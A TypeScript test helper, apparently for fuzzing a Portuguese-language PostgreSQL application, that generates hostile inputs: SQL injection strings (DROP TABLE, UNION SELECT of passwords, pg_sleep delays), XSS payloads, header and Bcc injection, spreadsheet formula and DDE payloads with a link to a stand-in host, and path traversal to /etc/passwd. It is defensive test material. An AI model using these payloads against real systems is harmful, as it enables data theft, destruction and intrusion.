import type { Random } from './random.ts'

/** Stands in many of the texts below, and so must stand in no log. */
export const CANARY = 'canarinho7Q'
/** What a header that was smuggled in would be called. */
export const SMUGGLED = 'x-injetado'
/** Longer than any answer may take: an injected pause is noticed. */
const PAUSE = 'pg_sleep(30)'

const sql = [
  `' OR '1'='1`,
  `'; DROP TABLE comercial_clientes; --`,
  `1); SELECT ${PAUSE}; --`,
  `' || ${PAUSE} || '`,
  `'||(select ${PAUSE}::text)||'`,
  `" OR ""="`,
  `\\'; --`,
  `%' OR 1=1 --`,
  `%_%\\`,
  '$1',
  `$$; select ${PAUSE}; $$`,
  `E'\\\\x00'`,
  'a & | ! ( <-> :*',
  '((((a+)+)+)+)$',
  '[[:alpha:]]{1000}(',
  `${CANARY}' UNION SELECT password FROM auth_accounts --`,
]
const html = [
  `<script>alert('${CANARY}')</script>`,
  `"><img src=x onerror=alert(1)>`,
  `javascript:alert('${CANARY}')`,
  `<svg/onload=alert(1)>`,
  `{{7*7}} $\{7*7} <%= 7*7 %>`,
  ']]><!--',
  '&lt;b&gt;&#0;',
]
const header = [
  `${CANARY}\r\n${SMUGGLED}: sim`,
  `a\nBcc: ladrao@fora.example`,
  `a%0d%0a${SMUGGLED}: sim`,
  `a\u2028${SMUGGLED}: sim`,
  `a"; filename="b.html`,
]
/** What a spreadsheet would run. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  `=HYPERLINK("http://fora.example/${CANARY}","ver")`,
  `=cmd|' /C calc'!A0`,
]
const paths = [
  '#platform/../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  'CON',
  '..',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '\\\\servidor\\pasta',
  'a'.repeat(300),
]
const letters = [
  '👩‍🚀 مرحبا \u202e أ',
  'Conceic\u0327a\u0303o',
  `\ufeff${CANARY}`,
  '\uffff\ufffe',
  `a${'\u0301'.repeat(200)}`,
  'İıßﬁ',
  '\u001b[31m\u0007\u0008',
  '',
  ' ',
  '\t\n',
  ' '.repeat(5000),
  'a'.repeat(201),
  'b'.repeat(501),
  'c'.repeat(20_001),
  'd'.repeat(100_000),
  'palavra '.repeat(2000),
  'W'.repeat(20_000),
  'W-'.repeat(10_000),
  'W\n'.repeat(10_000),
  'a\u0301'.repeat(10_000),
  // One of these becomes eighteen where letters are made alike.
  '\ufdfa'.repeat(20_000),
  '("'.repeat(3000),
]
/** What PostgreSQL cannot store as text. */
export const unstorable = ['a\u0000b', '\u0000', '\ud800', 'a\udc00b', `${CANARY}\udfff\ud800`]

const dates = [
  '0000-00-00',
  '0001-01-01',
  '1000-01-01',
  '9999-12-31',
  '10000-01-01',
  '-0001-01-01',
  '+275760-09-13',
  '2026-02-30',
  '2026-13-01',
  '2024-02-29',
  '29/02/2026',
  '2026-02-28T23:59:59Z',
  'infinity',
  'now',
  '٢٠٢٦-٠١-٠١',
  '0000-00',
  '9999-12',
  '2026-13',
]
const amounts = [
  '9'.repeat(400),
  '999999999999.99',
  '9999999999999.99',
  '99999999999999999999,99',
  '-0.01',
  '-999999999999.99',
  '0',
  '0.001',
  '1e400',
  '1e3',
  'NaN',
  'Infinity',
  '0x10',
  '--1',
  '1,2,3',
  '١٢',
]
const NUMBERS = [
  0, -0, -1, 1, 1.5, 100, 101, 1_000_000, 1_000_001, 2_147_483_647, 2_147_483_648, -2_147_483_649,
  9_007_199_254_740_991, 9_007_199_254_740_992, 1e21, 1e308, -1e-300,
]
const UUIDS = [
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '11111111-1111-4111-8111-111111111111',
  "11111111-1111-4111-8111-11111111111'",
]

export interface Chosen {
  value: unknown
  /** No answer but a refusal will do. */
  refuse?: boolean
}

const inert = (list: readonly unknown[], random: Random): Chosen => ({ value: random.pick(list) })

/** A text of any kind; `name` is that of its field. */
export function hostileText(random: Random, name = ''): Chosen {
  if (random.chance(0.12)) return { value: random.pick(unstorable), refuse: true }
  if (
    /data|prazo|_em$|vencimento|emissao|validade|mes|competencia|^(de|ate)$/.test(name) &&
    random.chance(0.6)
  )
    return inert(dates, random)
  if (/valor|salario|orcamento|limite/.test(name) && random.chance(0.6)) return inert(amounts, random)
  return inert(random.pick([sql, sql, html, header, formulas, paths, letters]), random)
}

export const hostileNumber = (random: Random): Chosen => inert(NUMBERS, random)
export const hostileUuid = (random: Random, known: readonly string[]): Chosen =>
  random.chance(0.5) && known.length > 0
    ? inert(known, random)
    : inert([...UUIDS, ...sql, ...unstorable], random)

const thousands = (item: unknown) => Array.from({ length: 100_000 }, () => item)

/** A value of some other type than the one that is asked for. */
export function wrongType(random: Random): unknown {
  return random.pick<() => unknown>([
    () => null,
    () => true,
    () => [],
    () => ({}),
    () => ({ $ne: 1 }),
    () => ({ toString: 'x', constructor: { name: 'x' }, length: 1e9 }),
    () => [[['a']]],
    () => hostileNumber(random).value,
    () => hostileText(random).value,
    () => thousands(1),
    () => thousands(''),
    () => Array.from({ length: 5000 }, () => ({})),
  ])()
}
